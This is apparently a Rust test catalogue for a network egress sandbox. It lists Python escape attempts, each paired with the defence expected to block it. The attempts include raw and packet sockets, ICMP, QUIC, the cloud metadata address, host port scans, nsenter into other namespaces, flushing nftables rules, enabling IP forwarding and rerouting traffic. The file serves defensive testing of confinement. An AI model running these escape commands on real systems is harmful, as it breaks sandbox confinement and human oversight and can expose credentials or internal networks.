//! Networks: other ports, protocols, addresses, namespaces.

use egress::defence::Defence::*;

use crate::attempt::{Attempt, ByEngine, attempt};
use crate::attempts::{DATAGRAM, PEER, PLAIN, SECURE};

/// All of them.
pub const ATTEMPTS: &[Attempt] = &[
    attempt(
        "tcp-port-not-listed",
        "s = dial('open.example.org', 8080); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules])
    .recorded("open.example.org", 8080, "port"),
    attempt(
        "tcp-to-a-literal",
        "s = dial('198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules])
    .recorded("198.51.100.1", 80, "no-rule"),
    attempt("tcp-to-a-foreign-literal", "s = dial('192.0.2.7', 443); say(s, T.encode())", SECURE)
    .against(&[Rules])
    .recorded("192.0.2.7", 443, "no-rule"),
    attempt(
        "udp-to-a-port-not-listed",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('open.example.org', 443)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against(&[UdpPorts, Rules])
    .unaudited(),
    attempt(
        "udp-to-a-literal",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('198.51.100.1', 5353)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against_engine(ByEngine::Networks)
    .unaudited(),
    attempt(
        "udp-to-a-name-without-a-rule-for-it",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('api.example.org', 5353)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against(&[Rules])
    .recorded("api.example.org", 5353, "port"),
    attempt(
        "quic",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(b'\\xc0\\0\\0\\0\\1' + T.encode() + bytes(1200), ('198.51.100.1', 443)); s.recv(99)",
        DATAGRAM,
    )
    .against_engine(ByEngine::Networks)
    .unaudited(),
    attempt(
        "icmp",
        "try: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
except PermissionError: s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1' + T.encode(), ('192.0.2.7', 0))",
        DATAGRAM,
    )
    .against_engine(ByEngine::Confinement)
    .against(&[Filter])
    .unaudited(),
    attempt(
        "raw-socket",
        "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(T.encode(), ('192.0.2.7', 0))",
        DATAGRAM,
    )
    .against_engine(ByEngine::Confinement)
    .against(&[Filter])
    .unaudited(),
    attempt(
        "packet-socket",
        "s = socket.socket(17, socket.SOCK_DGRAM, 0x0300); s.sendto(T.encode(), ('lo', 0x0800))",
        DATAGRAM,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
    attempt(
        "vsock",
        "s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(1); s.connect((2, 1024)); s.send(T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Fixed("this machine has none"))
    .unaudited(),
    attempt(
        "ipv6-literal",
        "s = dial('2001:db8::7', 80); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules])
    .recorded("2001:db8::7", 80, "no-rule"),
    attempt(
        "v4-mapped-literal",
        "s = dial('::ffff:198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules])
    .recorded_once_a_minute("198.51.100.1", 80, "no-rule"),
    attempt(
        "metadata-literal",
        "s = dial('169.254.169.254', 80); demand(say(s, get('169.254.169.254', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules, Addresses])
    .recorded("169.254.169.254", 80, "no-rule"),
    attempt("host-address", "demand(say(dial('198.51.100.2', 7777), T.encode() + b'\\n'), T.encode())", PLAIN)
        .against(&[Rules, Addresses])
        .recorded("198.51.100.2", 7777, "no-rule"),
    attempt(
        "gateway-of-an-internal-network",
        "demand(say(dial(gateway(), 7777), T.encode() + b'\\n'), T.encode())",
        PEER,
    )
    .against(&[Redirect, Filter])
    .stays_inside()
    .unaudited(),
    attempt(
        "datagrams-to-the-gateway",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(T.encode(), (gateway(), 7777))",
        PEER,
    )
    .against(&[Filter])
    .stays_inside()
    .unaudited(),
    attempt(
        "all-nodes-of-an-internal-network",
        "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); until = time.monotonic() + 1.5
while True:
    try: s.sendto(T.encode(), ('ff02::1', 7777, 0, socket.if_nametoindex('eth0'))); break
    except OSError as error:
        # Its own address may be too young to be used.
        if error.errno != errno.EADDRNOTAVAIL or time.monotonic() > until: raise
        time.sleep(0.1)",
        PEER,
    )
    .against(&[Ipv6])
    .stays_inside()
    .unaudited(),
    attempt(
        "a-port-that-a-peer-does-not-declare",
        "demand(http('peer', get('peer', '/' + T), 7001), b'404')",
        PEER,
    )
    .against(&[Inbound])
    .stays_inside()
    .unaudited(),
    attempt(
        "datagrams-to-a-peer-that-declares-no-port-for-them",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(T.encode(), (socket.gethostbyname('peer'), 7000)); demand(s.recv(99), T.encode())",
        PEER,
    )
    .against(&[Inbound])
    .stays_inside()
    .unaudited(),
    attempt(
        "every-port-that-the-host-listens-at",
        "answered = []
for address in ('198.51.100.2', gateway()):
    for port in LISTENING:
        try: answered += [port] * (T.encode() in say(dial(address, port), T.encode() + b'\\n'))
        except OSError: pass
if not answered: raise OSError(f'nothing came from any of {LISTENING}')",
        PLAIN,
    )
    .against(&[Rules, Addresses])
    .recorded("198.51.100.2", 2375, "no-rule"),
    attempt("the-name-of-a-sandbox-on-no-common-network", "socket.getaddrinfo('neighbour', 7000)", PEER)
        .against(&[Names])
        .stays_inside()
        .recorded("neighbour", 53, "no-rule"),
    attempt(
        "the-address-of-a-sandbox-on-no-common-network",
        "demand(http(NEIGHBOUR, get('neighbour', '/x'), 7000), b'404')",
        PEER,
    )
    .against_engine(ByEngine::Networks)
    .against(&[Rules, Addresses, Filter])
    .stays_inside()
    .recorded("NEIGHBOUR", 7000, "no-rule"),
    attempt(
        "datagrams-to-a-sandbox-on-no-common-network",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(T.encode(), (NEIGHBOUR, 7000)); demand(s.recv(99), T.encode())",
        PEER,
    )
    .against_engine(ByEngine::Networks)
    .stays_inside()
    .unaudited(),
    attempt(
        "abstract-socket-of-the-host",
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0sbx-escape-test'); s.sendall(T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Namespaces)
    .unaudited(),
    attempt(
        "nsenter",
        "import os
own = os.stat('/proc/self/ns/net').st_ino
for pid in filter(str.isdigit, os.listdir('/proc')):
    try: other = os.stat(f'/proc/{pid}/ns/net').st_ino != own
    except OSError: continue
    if other and subprocess.run(['nsenter', '--target', pid, '--net', 'true']).returncode == 0: break
else: raise OSError('nobody is in another network')",
        "subprocess.run(['nsenter', '--version'], check=True, stdout=subprocess.DEVNULL)",
    )
    .against_engine(ByEngine::Namespaces)
    .stays_inside()
    .unaudited(),
    attempt(
        "a-new-user-namespace-with-a-network-of-its-own",
        "libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x40000000): raise OSError('no new namespaces')
s = dial('192.0.2.7', 80); say(s, T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Fixed("a new network begins empty, whoever makes it"))
    .unaudited(),
    attempt(
        "flushing-the-rules",
        "subprocess.run(['/usr/sbin/nft', 'flush', 'ruleset'], check=True)
demand(say(dial(gateway(), 7777), T.encode() + b'\\n'), T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
    attempt("sysctl", "writable('/proc/sys'); open('/proc/sys/net/ipv4/ip_forward', 'w').write('1')", PLAIN)
        .against_engine(ByEngine::Confinement)
        .unaudited(),
    attempt(
        "adding-a-route",
        "subprocess.run(['ip', 'route', 'replace', 'default', 'via', '198.51.100.1', 'onlink', 'dev', 'lo'], check=True)",
        PLAIN,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
];
